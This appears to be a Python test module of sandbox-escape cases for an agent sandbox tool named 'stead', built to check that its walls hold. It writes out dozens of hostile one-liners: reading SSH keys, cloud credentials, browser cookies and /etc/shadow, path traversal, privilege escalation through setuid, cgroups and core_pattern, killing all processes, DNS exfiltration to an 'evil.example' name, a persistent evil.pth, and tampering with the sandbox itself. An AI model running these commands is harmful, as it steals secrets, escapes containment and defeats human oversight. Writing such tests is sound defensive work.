"""Ways out of a sandbox: to files, processes, memory and services of the machine."""

from __future__ import annotations

from tests.drill.attacks.case import Case, py, sh

_SHM = """
import ctypes, sys
c = ctypes.CDLL(None, use_errno=True)
c.shmat.restype = ctypes.c_void_p
held = c.shmget(<shm>, 0, 0)
at = c.shmat(held, None, FLAGS) if held >= 0 else -1
"""

MOUNTS = [
    *sh(
        "mounts",
        owner_key="cat <home>/secrets/owner.key",
        key_by_dots="cat ../secrets/owner.key",
        key_by_many_dots="cat ../../../../../../../../../..<home>/secrets/owner.key",
        key_by_link="cat key",
        key_by_linked_folder="cat out/owner.key",
        key_by_own_link="ln -s <home>/secrets l && cat l/provider.key",
        key_by_cwd_of_proc="cat /proc/self/cwd/../secrets/owner.key",
        key_by_root_of_proc="cat /proc/self/root<home>/secrets/owner.key",
        key_by_tar="tar -C <home> -cf - secrets 2>/dev/null | tr -d '\\0'",
        key_by_find="find / -name owner.key -exec cat {} + 2>/dev/null",
        key_by_grep="grep -rhas 'the word is' <home> /root /home /srv /opt | head -c 4000",
        configuration="cat <home>/stead.toml",
        daily_log="cat <home>/memory/*.md",
        database="tr -cd '[:alnum:]' < <home>/state.db",
        output_of_another_job="cat <home>/keep/spool/other-job/*",
        what_was_before_a_change="cat <home>/keep/undo/blobs/*",
        workspace_of_another="cat <home>/other-workspace/diary.md",
        folder_with_a_like_name="cat <work>.old/a",
        ssh_key="cat <home>/.ssh/id_ed25519",
        cloud_credentials="cat <home>/.aws/credentials <home>/.netrc",
        shell_history="cat <home>/.bash_history",
        logs="cat <home>/logs/*",
        backups="cat <home>/backups/*",
        cookies_of_a_browser="cat <home>/.config/chromium/Default/Cookies",
        key_of_the_model="cat <home>/run/model.json",
        shared_memory_file="cat <devshm>",
        write_beside="echo x > <marks>/beside",
        write_by_dots="echo x > ../autostart/dots",
        write_by_link="echo x > mark",
        move_out="cp note.md n && mv n <marks>/moved",
        link_put_there="ln -s /bin/sh <marks>/link",
        pipe_put_there="mkfifo <marks>/pipe",
    ),
    *py(
        "mounts",
        key_by_descriptors="import os\nd = os.open('.', os.O_RDONLY)\n"
        "d = os.open('..', os.O_RDONLY, dir_fd=d)\n"
        "print(os.read(os.open('secrets/owner.key', 0, dir_fd=d), 99))",
        database_by_sqlite="import sqlite3\n"
        "print(sqlite3.connect('file:<home>/state.db?mode=ro&immutable=1', uri=True)"
        ".execute('select * from key').fetchall())",
        socket_by_path="import socket\ns = socket.socket(socket.AF_UNIX)\n"
        "s.connect('<unix>')\nprint(s.recv(999))",
    ),
]

PROCESSES = [
    *sh(
        "pids",
        command_lines="cat /proc/<pid>/cmdline | tr '\\0' ' '",
        kill_another="kill -9 <pid>; sleep 0.3",
    ),
    *sh(
        "",
        environment_of_another="tr '\\0' '\\n' < /proc/<pid>/environ",
        file_that_another_holds="cat /proc/<pid>/fd/0 | tr -cd '[:alnum:]'",
        folder_of_another="cat /proc/<pid>/cwd/secrets/owner.key",
        kill_all="kill -9 -1; sleep 0.3",  # never where it could reach others
        key_by_hard_link="ln <home>/secrets/owner.key h && cat h",
    ),
    *py("pids", kill_by_descriptor="import os, signal, time\n"
        "signal.pidfd_send_signal(os.pidfd_open(<pid>), 9)\ntime.sleep(0.3)"),
]  # fmt: skip

MEMORY = py(
    "ipc",
    shared_memory=_SHM.replace("FLAGS", "0o10000") + "print(ctypes.string_at(at, 64))",
    shared_memory_written=_SHM.replace("FLAGS", "0")
    + "ctypes.memset(at + 2048, 1, 8)\nwon(held < 0 and sys.exit('there is none'))",
)

NETWORK = [
    *sh(
        "network",
        tcp="exec 3<>/dev/tcp/127.0.0.1/<tcp> && head -c 99 <&3",
        udp="echo hello > /dev/udp/127.0.0.1/<udp>; sleep 0.2",
        name_of_this_machine="exec 3<>/dev/tcp/localhost/<tcp>; head -c 99 <&3",
        any_address="exec 3<>/dev/tcp/0.0.0.0/<tcp>",
        in_the_background="(setsid bash -c 'sleep 0.2; exec 3<>/dev/tcp/127.0.0.1/<tcp>' &);"
        " sleep 0.8",
    ),
    *py(
        "network",
        tcp_of_python="import socket\nsocket.create_connection(('127.0.0.1', <tcp>))",
        tcp6="import socket\nsocket.create_connection(('::1', <tcp6>))",
        mapped_address="import socket\n"
        "s = socket.socket(socket.AF_INET6)\ns.connect(('::ffff:127.0.0.1', <tcp>))",
        http="import urllib.request as u\n"
        "u.build_opener(u.ProxyHandler({})).open('http://127.0.0.1:<tcp>/')",
        question_to_a_name_server="import socket, time\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.sendto(b'\\x12\\x34\\x01\\0\\0\\1' + bytes(6)"
        " + b'\\4data\\4evil\\7example\\0\\0\\x10\\0\\1', ('127.0.0.1', <udp>))\ntime.sleep(0.2)",
        socket_without_a_path="import socket\n"
        "s = socket.socket(socket.AF_UNIX)\ns.connect('\\0<abstract>')",
        devices="won(len(open('/proc/net/dev').readlines()) > 3 or 1 / 0)",
    ),
]

ENVIRONMENT = [
    *sh(
        "environment",
        environment="env",
        environment_of_proc="cat /proc/$$/environ | tr '\\0' '\\n'",
        environment_of_the_first="cat /proc/*/environ | tr '\\0' '\\n'",
        variables="set; declare -x",
    ),
    *py("environment", environment_of_python="import os\nprint(dict(os.environ))"),
]

#: Who may become what he is not. More than one wall each, so none alone is taken away.
RIGHTS = [
    *sh(
        "",
        root_by_sudo="sudo -n id -u | grep -qx 0 && printf 'ATTACK%s' -WON",
        root_by_su="echo | su -c 'id -u' | grep -qx 0 && printf 'ATTACK%s' -WON",
        root_by_a_bit="cp /bin/cat c && chmod u+s c && ./c <home>/secrets/owner.key /etc/shadow",
        passwords="cut -c -8 /etc/shadow | grep -q root && printf 'ATTACK%s' -WON",
        mount_memory="mount -t tmpfs none /mnt && printf 'ATTACK%s' -WON",
        mount_the_disk="for d in /dev/vda /dev/sda1 /dev/nvme0n1 /dev/root; do"
        " head -c 1 $d && printf 'ATTACK%s' -WON; done",
        a_device="mknod disk b 254 0 && head -c 9 disk && printf 'ATTACK%s' -WON",
        another_root="chroot / true && printf 'ATTACK%s' -WON",
        give_away_a_file="touch g && chown 12345 g && printf 'ATTACK%s' -WON",
        programs_of_the_machine="echo x > /usr/bin/stead-was-here && printf 'ATTACK%s' -WON",
        settings_of_the_machine="echo x > /etc/cron.d/stead && printf 'ATTACK%s' -WON",
        core_pattern="echo '|/bin/sh' > /proc/sys/kernel/core_pattern && printf 'ATTACK%s' -WON",
        reboot="echo b > /proc/sysrq-trigger && printf 'ATTACK%s' -WON",
        host_name="hostname gone && printf 'ATTACK%s' -WON",
        clock="date -s 2001-01-01 && printf 'ATTACK%s' -WON",
        kernel_log="dmesg | grep -q . && printf 'ATTACK%s' -WON",
        control_groups="find /sys/fs/cgroup -name release_agent -writable 2>/dev/null | grep -q ."
        " && printf 'ATTACK%s' -WON; mkdir /sys/fs/cgroup/memory/x && printf 'ATTACK%s' -WON",
        priority="nice -n -20 true 2>&1 | grep -q . || printf 'ATTACK%s' -WON",
        real_time="chrt -f 50 true && printf 'ATTACK%s' -WON",
        limits_raised="ulimit -Hn 1000000 && printf 'ATTACK%s' -WON",
        sockets_of_servers="for s in /run/docker.sock /var/run/docker.sock"
        " /run/podman/podman.sock /run/dbus/system_bus_socket /run/user/*/bus"
        " /run/systemd/private; do test -S $s && printf 'ATTACK%s' -WON; done",
        trace_the_first="head -c 1 /proc/1/mem && printf 'ATTACK%s' -WON",
        keys_of_the_kernel="grep -q . /proc/keys && grep -q keyring /proc/keys"
        " && keyctl show && printf 'ATTACK%s' -WON",
        memory_of_the_machine="head -c 1 /dev/mem /dev/kmem /proc/kcore && printf 'ATTACK%s' -WON",
        a_module="modprobe dummy && printf 'ATTACK%s' -WON",
        firewall="(iptables -L || nft list ruleset) && printf 'ATTACK%s' -WON",
    ),
    *py(
        "",
        root_by_setuid="import os\nos.setuid(0)\nwon()",
        root_by_groups="import os\nos.setgroups([0])\nwon()",
        capabilities="caps = open('/proc/self/status').read().split('CapBnd:')[1].split()[0]\n"
        "won(int(caps, 16) or 1 / 0)",
        own_program_changed="import sys, pathlib, encodings\n"
        "pathlib.Path(encodings.__file__).open('ab').write(b'#')\nwon()",
        startup_of_python="import site, pathlib, sys\n"
        "for p in sys.path:\n    if p.endswith('-packages'):\n"
        "        pathlib.Path(p, 'evil.pth').write_text('import os')\n        won()",
        stead_itself_changed="import stead, pathlib\n"
        "pathlib.Path(stead.__file__).open('ab').write(b'#')\nwon()",
    ),
]

NAMESPACES = [
    *sh(
        "namespaces",
        a_user_namespace="test \"$(unshare -Ur id -u)\" = 0 && printf 'ATTACK%s' -WON",
        a_mount_in_one="unshare -Urm sh -c 'mount -t tmpfs x /tmp' && printf 'ATTACK%s' -WON",
        a_network_in_one="unshare -Urn true && printf 'ATTACK%s' -WON",
        processes_in_one="unshare -Urpf true && printf 'ATTACK%s' -WON",
    ),
    *py(
        "namespaces",
        a_user_namespace_by_call="import ctypes\n"
        "won(ctypes.CDLL(None).unshare(0x10000000) and 1 / 0)",
    ),
]

CASES: list[Case] = [
    *MOUNTS, *PROCESSES, *MEMORY, *NETWORK, *ENVIRONMENT, *RIGHTS, *NAMESPACES,
]  # fmt: skip
